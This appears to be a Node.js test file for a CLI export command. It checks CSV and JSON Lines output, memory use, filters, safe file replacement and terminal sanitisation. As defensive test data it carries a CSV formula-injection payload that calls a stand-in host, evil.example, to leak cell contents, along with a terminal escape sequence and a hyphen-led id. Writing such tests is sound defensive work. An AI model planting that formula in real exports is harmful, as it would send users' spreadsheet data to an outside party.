@@ -1,0 +1,248 @@
+// `portal acceptances export`: everything, exactly, in constant memory, and never half a file.
+import assert from 'node:assert/strict'
+import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { describe, type TestContext, test } from 'node:test'
+import { setTimeout as sleep } from 'node:timers/promises'
+import { acceptanceRequest, openReplica } from '../ledger/fixture.ts'
+import { query, temporaryFolder } from '../support/databases.ts'
+import { emptyLedger, fill, reachable } from '../support/ledgers.ts'
+import { ended, gatewayctl, onTerminal, skipWithoutScript, startGatewayctl } from './gatewayctl.ts'
+
+const EXPORT = ['portal', 'acceptances', 'export']
+const sqlite = reachable.find(({ dialect }) => dialect === 'sqlite') ?? assert.fail()
+const FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"x")'
+
+/** Two attempts at a verdict whose id begins with a hyphen, under a rule that is a formula; and one pending acceptance. */
+async function smallLedger(t: TestContext, database = sqlite) {
+  const location = await emptyLedger(t, database)
+  let now = Date.UTC(2026, 10, 20, 12)
+  const replica = await openReplica(t, location, () => now++)
+  const request = acceptanceRequest({
+    reference: '-abcdefghijklmnopqrstu',
+    ruleName: FORMULA,
+    clientAddress: '192.0.2.7',
+  })
+  await replica.completeAttempt(await replica.beginAttempt(request), 403)
+  await replica.completeAttempt(await replica.beginAttempt(request), 302)
+  await replica.beginAttempt(acceptanceRequest({ ruleName: 'two\nlines, "quoted"' }))
+  return location
+}
+
+const lines = (text: string) => text.split('\n').filter((line) => line !== '')
+
+for (const database of reachable) {
+  describe(`export, ${database.name}`, { skip: database.skip }, () => {
+    test('JSON Lines hold every column as it is; CSV the same, but for formulas', async (t) => {
+      const ledger = await smallLedger(t, database)
+      const rows = await query(ledger, 'select * from acceptance order by requested_at')
+      const attempts = await query(ledger, 'select id, asked_at, answered_at, engine_status from attempt order by id')
+      const [jsonl, withAttempts, csv, csvWithAttempts] = await Promise.all(
+        [['--format', 'jsonl'], ['--format', 'jsonl', '--attempts'], [], ['--attempts']].map((options) =>
+          gatewayctl([...EXPORT, ...options], { ledger }),
+        ),
+      )
+      for (const outcome of [jsonl, withAttempts, csv, csvWithAttempts]) {
+        assert.deepEqual([outcome?.status, outcome?.stderr], [0, ''])
+      }
+      const plain = (values: readonly unknown[]) => values.map((value) => ({ ...(value as object) }))
+      assert.deepEqual(
+        lines(`${jsonl?.stdout}`).map((line) => JSON.parse(line)),
+        plain(rows),
+      )
+      assert.deepEqual(
+        lines(`${withAttempts?.stdout}`).map((line) => JSON.parse(line)),
+        [
+          { ...rows[0], attempt_records: plain(attempts.slice(0, 2)) },
+          { ...rows[1], attempt_records: plain(attempts.slice(2)) },
+        ],
+      )
+
+      const [first, second] = rows
+      const header =
+        'id,jti,rule_name,policy_version,document_sha256,locale,document_source,state,requested_at,decided_at,engine_status,attempts,portal_version,client_address'
+      const firstLine = `${first?.id},'-abcdefghijklmnopqrstu,"'=HYPERLINK(""https://evil.example/?""&A1;""x"")",2026-11-20,${first?.document_sha256},de,shown,accepted,2026-11-20T12:00:00.000Z,2026-11-20T12:00:00.003Z,302,2,2026.47.0-IR,192.0.2.7`
+      const secondLine = `${second?.id},${second?.jti},"two\nlines, ""quoted""",2026-11-20,${second?.document_sha256},de,shown,pending,2026-11-20T12:00:00.004Z,,,1,2026.47.0-IR,`
+      assert.deepEqual(new Set(header.split(',')), new Set(Object.keys(first ?? {})))
+      // The verdict's id may begin with a hyphen by chance.
+      assert.equal(csv?.stdout.replace("'-", '-'), `${header}\r\n${firstLine}\r\n${secondLine}\r\n`.replace("'-", '-'))
+      assert.match(csv?.stdout ?? '', /,'-abcdefghijklmnopqrstu,/)
+      const ofAttempts = attempts.map((attempt) => Object.values(attempt).join(','))
+      assert.equal(
+        csvWithAttempts?.stdout.replaceAll("'-", '-'),
+        [
+          `${header},attempt_id,attempt_asked_at,attempt_answered_at,attempt_engine_status`,
+          ...[firstLine, firstLine, secondLine].map((line, at) => `${line},${ofAttempts[at]}`),
+          '',
+        ]
+          .join('\r\n')
+          .replaceAll("'-", '-'),
+      )
+    })
+
+    test('100,000 in a small heap, while portals write: each once, in order', { timeout: 120_000 }, async (t) => {
+      const ledger = await emptyLedger(t, database)
+      await fill(ledger, 100_000)
+      const replica = await openReplica(t, ledger, Date.now)
+      const exporting = startGatewayctl([...EXPORT, '--format', 'jsonl', '--attempts'], {
+        ledger,
+        // All records at once would need 150 MB.
+        nodeOptions: ['--max-old-space-size=32', '--max-semi-space-size=2'],
+      })
+      const outcome = ended(exporting)
+      let running = true
+      const writing = (async () => {
+        for (; running; await sleep(5)) {
+          await replica.completeAttempt(await replica.beginAttempt(acceptanceRequest()), 302)
+        }
+      })()
+      const { status, stdout, stderr } = await outcome
+      running = false
+      await writing
+      assert.equal(status, 0, stderr)
+      const old = lines(stdout)
+        .map((line) => JSON.parse(line))
+        .filter(({ portal_version, jti }) => portal_version === '2026.47.0-IR' && jti.startsWith('verdict-'))
+      assert.equal(old.length, 100_000)
+      assert.equal(new Set(old.map(({ id }) => id)).size, 100_000)
+      for (let at = 1; at < old.length; at++) {
+        const [one, other] = [old[at - 1], old[at]].map(({ requested_at, id }) => `${requested_at} ${id}`)
+        assert.ok(`${one}` < `${other}`, `${one} before ${other}`)
+      }
+    })
+  })
+}
+
+test('the filters, and nothing that matches', async (t) => {
+  const ledger = await emptyLedger(t, sqlite)
+  await fill(ledger, 70)
+  const options = [
+    '--format',
+    'jsonl',
+    '--state',
+    'unknown',
+    '--since',
+    '2025-01-01T00:00:05Z',
+    '--until',
+    '2025-01-02',
+  ]
+  const [some, none] = await Promise.all([
+    gatewayctl([...EXPORT, ...options], { ledger }),
+    gatewayctl([...EXPORT, '--rule', 'no such rule'], { ledger }),
+  ])
+  assert.deepEqual(
+    lines(some.stdout).map((line) => JSON.parse(line).jti),
+    [39, 49, 59, 69].map((number) => `verdict-000000000000${number}`),
+  )
+  assert.deepEqual([none.status, lines(none.stdout).length], [0, 1])
+})
+
+describe('where it goes', () => {
+  test('a file takes the place of the old one, for its owner alone; a link stays a link', async (t) => {
+    const ledger = await smallLedger(t)
+    const folder = temporaryFolder(t)
+    const file = join(folder, 'acceptances.csv')
+    const link = join(folder, 'link.csv')
+    writeFileSync(file, 'the old one', { mode: 0o644 })
+    symlinkSync(file, link)
+    const [toStdout, toLink] = await Promise.all([
+      gatewayctl(EXPORT, { ledger }),
+      gatewayctl([...EXPORT, '--output', link], { ledger }),
+    ])
+    assert.deepEqual(toLink, { status: 0, stdout: '', stderr: '' })
+    assert.equal(readFileSync(file, 'utf8'), toStdout.stdout)
+    assert.equal(statSync(file).mode & 0o777, 0o600)
+    assert.deepEqual(readdirSync(folder).sort(), ['acceptances.csv', 'link.csv'])
+  })
+
+  test('a device, a folder, a folder that is missing, a full disk', async (t) => {
+    const ledger = await smallLedger(t)
+    const folder = temporaryFolder(t)
+    mkdirSync(join(folder, 'folder'))
+    const [device, isFolder, missing, full] = await Promise.all([
+      gatewayctl([...EXPORT, '--output', '/dev/null'], { ledger }),
+      gatewayctl([...EXPORT, '--output', join(folder, 'folder')], { ledger }),
+      gatewayctl([...EXPORT, '--output', join(folder, 'missing', 'x.csv')], { ledger }),
+      gatewayctl(EXPORT, { ledger, shell: `ulimit -f 0; exec "$@" --output ${join(folder, 'x.csv')}` }),
+    ])
+    for (const { status, stderr } of [device, isFolder]) {
+      assert.equal(status, 2)
+      assert.match(stderr, /^error: .* is there already, and is not a file\n$/)
+    }
+    assert.ok(statSync('/dev/null').isCharacterDevice())
+    assert.equal(missing.status, 1)
+    assert.match(missing.stderr, /^error: .*x\.csv cannot be written: ENOENT/)
+    assert.equal(full.status, 1)
+    assert.match(full.stderr, /^error: .*x\.csv cannot be written: EFBIG/)
+    assert.deepEqual(readdirSync(folder), ['folder'])
+  })
+
+  test('standard output that is full', {
+    skip: !existsSync('/dev/full') && 'this machine has no /dev/full',
+  }, async (t) => {
+    const { status, stderr } = await gatewayctl(EXPORT, {
+      ledger: await smallLedger(t),
+      shell: 'exec "$@" > /dev/full',
+    })
+    assert.equal(status, 1)
+    assert.match(stderr, /^error: the output cannot be written: ENOSPC.*\n$/)
+  })
+
+  test('a reader that has seen enough: a quiet end', async (t) => {
+    const ledger = await emptyLedger(t, sqlite)
+    await fill(ledger, 20_000)
+    for (const format of ['csv', 'jsonl']) {
+      const shell = 'set -o pipefail; "$@" | head -n 2'
+      const { status, stdout, stderr } = await gatewayctl([...EXPORT, '--format', format], { ledger, shell })
+      assert.deepEqual([status, stderr, lines(stdout).length], [0, '', 2])
+    }
+  })
+})
+
+describe('on a terminal', { skip: skipWithoutScript }, () => {
+  test('progress beside a file or a pipe, safe text on the terminal itself', async (t) => {
+    const ledger = await emptyLedger(t, sqlite)
+    await fill(ledger, 3_000)
+    await query(
+      ledger,
+      `update acceptance set rule_name = 'x' || char(27) || '[2J', requested_at = requested_at || char(27)`,
+    )
+    const file = join(temporaryFolder(t), 'x.csv')
+    const [toFile, toPipe, toScreen] = await Promise.all([
+      onTerminal([...EXPORT, '--output', file], { ledger }),
+      onTerminal(EXPORT, { ledger }, { redirection: '| wc -l' }),
+      onTerminal([...EXPORT, '--until', '2025-01-01T00:00:01Z'], { ledger }),
+    ])
+    for (const { screen } of [toFile, toPipe]) {
+      assert.match(screen, /\r\u001b\[K500 acceptances, \d+\.\d s, up to 2025-[\d:T.-]+Z\\u\{1b\}/)
+      assert.match(screen, /\r\u001b\[K3,000 acceptances, \d+\.\d s\r\n/)
+    }
+    assert.match(toPipe.screen, /^3001\r$/m)
+    assert.ok(readFileSync(file, 'utf8').includes('x\u001b[2J'))
+    assert.equal(lines(toScreen.screen).length, 1 + 7 + 1)
+    assert.match(toScreen.screen, /x\\u\{1b\}\[2J/)
+    assert.ok(!toScreen.screen.includes('\u001b'))
+  })
+
+  test('Ctrl-C, or an end from outside: the old file stays, and nothing else', { timeout: 120_000 }, async (t) => {
+    const ledger = await emptyLedger(t, sqlite)
+    await fill(ledger, 50_000)
+    const folder = temporaryFolder(t)
+    const file = join(folder, 'acceptances.csv')
+    writeFileSync(file, 'the old one')
+    const { status, screen } = await onTerminal(
+      [...EXPORT, '--output', file],
+      { ledger },
+      { awaited: /up to/, typed: '\u0003' },
+    )
+    assert.equal(status, 130, screen)
+    assert.deepEqual(readdirSync(folder), ['acceptances.csv'])
+    assert.equal(readFileSync(file, 'utf8'), 'the old one')
+
+    const child = startGatewayctl([...EXPORT, '--output', file], { ledger })
+    while (readdirSync(folder).length === 1) await sleep(5)
+    child.kill('SIGTERM')
+    assert.equal((await ended(child)).status, 143)
+    assert.deepEqual(readdirSync(folder), ['acceptances.csv'])
+  })
+})
